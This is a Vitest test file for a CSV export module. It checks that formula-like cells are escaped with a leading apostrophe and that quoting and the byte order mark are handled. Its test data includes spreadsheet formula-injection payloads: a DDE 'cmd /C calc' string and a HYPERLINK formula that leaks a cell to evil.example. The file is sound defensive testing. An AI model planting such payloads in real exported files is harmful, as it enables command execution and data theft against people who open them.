import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { escapeCell, toCsv } from "../../../app/domain/csv";

describe("the CSV writer", () => {
  it.each(["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?leak="&B2,"Kull 1")'])(
    "makes %j text, not a formula",
    (cell) => {
      expect(escapeCell(cell)).toBe(`'${cell}`);
    },
  );

  it.each(["Kull 1", "-0,4", "+1.5", "12", "", "a=b"])("leaves %j alone", (cell) => {
    expect(escapeCell(cell)).toBe(cell);
  });

  it("escapes headers and cells, quotes what needs quoting, and adds the byte order mark on request", () => {
    const csv = toCsv(["=h", "b"], [["=x;y", 'a "q"']], { delimiter: ";", bom: true });
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(Papa.parse(csv.slice(1), { delimiter: ";" }).data).toEqual([
      ["'=h", "b"],
      ["'=x;y", 'a "q"'],
    ]);
  });
});
